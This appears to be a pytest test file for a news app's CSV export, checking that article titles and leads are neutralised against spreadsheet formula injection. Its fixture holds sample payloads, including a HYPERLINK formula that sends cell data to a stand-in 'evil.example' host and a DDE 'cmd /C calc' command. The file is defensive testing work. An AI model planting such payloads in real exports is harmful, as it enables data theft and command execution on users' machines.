"""CSV exports open safely in a spreadsheet: no cell a spreadsheet would read as a formula
(OWASP "CSV injection"), while every value stays readable and the JSON Lines export keeps
the text as it is."""

import csv
import io
import json
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient

from app.loader.pipeline import load
from app.main import create_app
from app.routes.feeds import spreadsheet_safe
from tests.conftest import make_settings

# Headline, then the lead (first paragraph): each starts with what a spreadsheet runs.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"Токаев") Токаев провел переговоры':
        "=1+2 Президент Токаев провел переговоры с коллегой.",
    "+7 (7172) Тоқаев Қытай басшысымен кездесті": "@SUM(1+1) Мемлекет басшысы Қытай Төрағасымен кездесті.",
    "-2+3 Tokayev held talks with Xi Jinping": "-cmd|' /C calc'!A0 Kassym-Jomart Tokayev held talks.",
    "@import Токаев встретился с министром": "+cmd Касым-Жомарт Токаев встретился с министром.",
}  # fmt: skip


@pytest.fixture(scope="module")
def formula_client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    root = tmp_path_factory.mktemp("formulas")
    raw = root / "raw"
    raw.mkdir()
    for number, (title, lead) in enumerate(FORMULAS.items()):
        body = f"{title}\n\n{lead}\n\nСтороны обсудили сотрудничество и торговлю.\n"
        (raw / f"formula_{number}.txt").write_text(body, encoding="utf-8")
    settings = make_settings(root / "data")
    report = load([raw], settings)
    assert report.published and report.count("loaded") == len(FORMULAS), report.summary()
    with TestClient(create_app(settings)) as client:
        yield client


def test_no_exported_cell_starts_a_formula(formula_client: TestClient) -> None:
    response = formula_client.get("/export/articles.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row


def test_exported_titles_and_leads_read_as_written_after_the_quote(formula_client: TestClient) -> None:
    rows = list(
        csv.DictReader(io.StringIO(formula_client.get("/export/articles.csv").content.decode("utf-8-sig")))
    )
    assert sorted(r["title"] for r in rows) == sorted("'" + title for title in FORMULAS)
    assert sorted(r["lead"] for r in rows) == sorted("'" + lead for lead in FORMULAS.values())


def test_json_lines_keep_the_text_unchanged(formula_client: TestClient) -> None:
    lines = formula_client.get("/export/articles.jsonl").text.strip().split("\n")
    assert sorted(json.loads(line)["title"] for line in lines) == sorted(FORMULAS)


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
        ("Токаев", "Токаев"), ("", ""), ("a=b", "a=b"), ("2020-01-01", "2020-01-01"),
    ],
)  # fmt: skip
def test_spreadsheet_safe(value: str, safe: str) -> None:
    assert spreadsheet_safe(value) == safe


def test_seed_export_is_unchanged_by_the_guard(client: TestClient) -> None:
    """Ordinary titles gain no quote."""
    rows = list(csv.DictReader(io.StringIO(client.get("/export/articles.csv").content.decode("utf-8-sig"))))
    assert rows and not any(r["title"].startswith("'") or r["lead"].startswith("'") for r in rows)


def test_the_export_starts_with_a_bom_so_spreadsheets_read_utf8(client: TestClient) -> None:
    """Excel reads a CSV without a BOM in the ANSI code page: Cyrillic as mojibake."""
    response = client.get("/export/articles.csv", params={"lang": "ru"})
    assert response.content.startswith("\ufeffid,url,".encode())
    titles = [r["title"] for r in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))]
    assert "Спикер Сената встретился с министром иностранных дел Израиля" in titles
    assert client.get("/export/articles.csv", params={"bom": "0"}).content.startswith(b"id,url,")


def test_multi_valued_cells_use_one_separator(client: TestClient) -> None:
    """Seed 000: a phone call with an invitation, Tokayev and Rivlin, Kazakhstan and Israel."""
    export = client.get("/export/articles.csv").content.decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(export)) if r["id"] == "0850c73b636fa0ad")
    assert sorted(row["event_types"].split("|")) == ["invitation", "phone_call"]
    assert sorted(row["leaders"].split("|")) == ["kassym-jomart-tokayev", "reuven-rivlin"]
    assert sorted(row["countries"].split("|")) == ["IL", "KZ"]
    assert not any(";" in row[name] or " " in row[name] for name in ("event_types", "leaders", "countries"))
